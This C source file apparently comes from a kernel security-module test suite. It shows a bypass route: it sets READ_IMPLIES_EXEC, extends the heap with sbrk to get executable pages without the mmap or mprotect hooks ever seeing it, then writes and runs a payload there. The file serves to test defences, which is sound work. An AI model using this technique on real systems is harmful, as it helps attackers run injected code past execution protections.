// SPDX-License-Identifier: GPL-2.0
/*
 * Route 3 via brk: do_brk_flags() gives new heap pages VM_EXEC when the
 * persona has READ_IMPLIES_EXEC. No mmap, no mprotect, so no mmap_file or
 * file_mprotect hook ever sees it.
 */
#define ATTACK_NAME "read_implies_exec_brk"
#include "attack.h"

int main(void)
{
	uintptr_t cur, page;
	void *old;
	int r;

	attack_init();
	attack_set_read_implies_exec();
	old = sbrk(0);
	if (old == (void *)-1)
		attack_error("sbrk(0): %s", strerror(errno));
	cur = (uintptr_t)old;
	/*
	 * The page holding a non-aligned break already exists with the old
	 * flags; the first page above it is created by this brk.
	 */
	page = attack_page_up(cur);
	if (sbrk((intptr_t)(page - cur + 2 * ATTACK_PAGE)) == (void *)-1) {
		/*
		 * brk(2) cannot return an errno: the syscall hands back the
		 * old break and glibc reports every refusal as ENOMEM, so a
		 * denial (e.g. from the vm_enough_memory hook) looks like that.
		 */
		if (errno == ENOMEM) {
			printf("attack %s: brk denied: %s\n", ATTACK_NAME,
			       strerror(errno));
			exit(ATTACK_EXIT_DENIED);
		}
		attack_step_failed("brk under READ_IMPLIES_EXEC", errno);
	}
	r = attack_addr_executable((void *)page);
	if (r < 0)
		attack_error("cannot read /proc/self/maps: %s", strerror(-r));
	if (!r)
		attack_error("new heap page %#lx is not executable under READ_IMPLIES_EXEC",
			     (unsigned long)page);
	attack_write_payload((void *)page);
	attack_run_payload((void *)page);
}
